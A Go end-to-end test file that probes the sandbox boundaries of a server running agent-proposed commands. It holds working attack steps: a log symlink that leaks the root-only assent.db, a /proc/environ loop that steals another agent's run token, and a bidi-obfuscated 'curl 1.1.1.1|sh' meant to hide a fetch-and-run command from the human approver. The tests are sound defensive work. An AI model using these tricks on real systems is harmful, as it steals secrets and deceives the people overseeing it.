package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestBoundaryRunLogSymlinkReadsDatabase: the server runs as root and
// the Run as an unprivileged user, which owns its Run directory. The Run
// replaces its stdout.log with a symlink to the server's database and
// exits; the agent then asks for the Run's logs, which the server opens
// as root and follows the link: the agent reads assent.db (0600 root),
// which the sandbox promises stays root's. The same works for any file
// root can read (/etc/shadow, other principals' data).
func TestBoundaryRunLogSymlinkReadsDatabase(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the Run drops to an unprivileged user only when the server runs as root")
	}
	rt := newRunsTarget(t)
	db := filepath.Join(rt.dir, "assent.db")
	_, direct := rt.spawnAndWait(t, rt.attacker, "probe", "head -c 16 '"+db+"' 2>&1; id -u")
	if strings.Contains(direct, "SQLite format 3") {
		t.Fatalf("the Run reads the database directly:\n%s", direct)
	}
	rt.spawnAndWait(t, rt.attacker, "link", "rm -f stdout.log; ln -s '"+db+"' stdout.log")
	_, out, _ := rt.call(t, rt.attacker, "GET", "/v1/runs/link/logs?stream=stdout", nil)
	if strings.Contains(out, "SQLite format 3") {
		t.Fatalf("the agent read the root-only database through its Run's log symlink (%d bytes): %q…", len(out), out[:64])
	}
}

// TestBoundaryRunStealsOtherAgentsRunToken: with the server as root,
// every Run of every principal runs as the same --run-user (nobody). The
// attacker's Run reads /proc/<pid>/environ of the victim agent's Run,
// takes its ASSENT_RUN_TOKEN, and the attacker uses it to read the
// victim's Run (which answers not_found to the attacker's own token). The
// victim's control FIFO and Run directory are writable by the attacker's
// Run the same way (same uid).
func TestBoundaryRunStealsOtherAgentsRunToken(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the Run drops to an unprivileged user only when the server runs as root")
	}
	rt := newRunsTarget(t)
	if code, raw, _ := rt.call(t, rt.victim, "POST", "/v1/runs", map[string]any{"template": "sleep 30", "run_id": "victimrun"}); code >= 300 {
		t.Fatalf("victim spawn: %d %s", code, raw)
	}
	if code, _, _ := rt.call(t, rt.attacker, "GET", "/v1/runs/victimrun", nil); code != 404 {
		t.Fatalf("the attacker's own token sees the victim's Run: %d", code)
	}
	_, out := rt.spawnAndWait(t, rt.attacker, "thief",
		`for p in /proc/[0-9]*; do e=$(tr '\000' '\n' < $p/environ 2>/dev/null); case "$e" in *ASSENT_RUN_ID=victimrun*) printf '%s\n' "$e" | sed -n 's/^ASSENT_RUN_TOKEN=//p'; break;; esac; done`)
	stolen := strings.TrimSpace(out)
	if stolen == "" {
		t.Logf("no token read (holds)")
		return
	}
	code, raw, _ := rt.call(t, stolen, "GET", "/v1/runs/victimrun", nil)
	if code == 200 {
		t.Fatalf("the attacker's Run read the victim agent's run token from /proc and used it: GET /v1/runs/victimrun = %d %s", code, raw[:min(len(raw), 200)])
	}
}

// TestBoundaryProposalScriptBidiReordered: the agent proposes an
// inline command whose script holds Unicode bidi controls (RLO, LRI, PDI).
// The proposal page puts them as they are in <pre id="proposal-script">,
// so a browser draws `echo cleanup #; curl 1.1.1.1|sh` (the curl looks
// commented out) while the shell runs `echo cleanup ; curl 1.1.1.1|sh ;…`.
// The page that "shows the exact script" should show such characters
// visibly (or the proposal should be refused).
func TestBoundaryProposalScriptBidiReordered(t *testing.T) {
	a := newApp(t, false)
	script := "echo cleanup \u202e\u2066; curl 1.1.1.1|sh ;\u2069\u2066#\u2069\u202c"
	code, v := a.execAPI("POST", "/v1/runs", a.Boot.AgentToken, map[string]any{"template": script, "run_id": "bidi"})
	prop, _ := v["proposal"].(string)
	if code != 202 || prop == "" {
		t.Logf("refused (holds): %d %v", code, v)
		return
	}
	cookie, _ := a.SignIn()
	page := a.webPage("/runs/proposals/"+prop, cookie)
	i := strings.Index(page, `id="proposal-script"`)
	if i < 0 {
		t.Fatalf("no script on the proposal page:\n%s", page)
	}
	shown := page[i:]
	shown = shown[:strings.Index(shown, "</pre>")]
	for _, r := range []rune{'\u202e', '\u2066', '\u2069'} {
		if strings.ContainsRune(shown, r) {
			t.Fatalf("the proposal page shows the script with raw bidi control U+%04X, so the person sees it reordered: %q", r, shown)
		}
	}
}
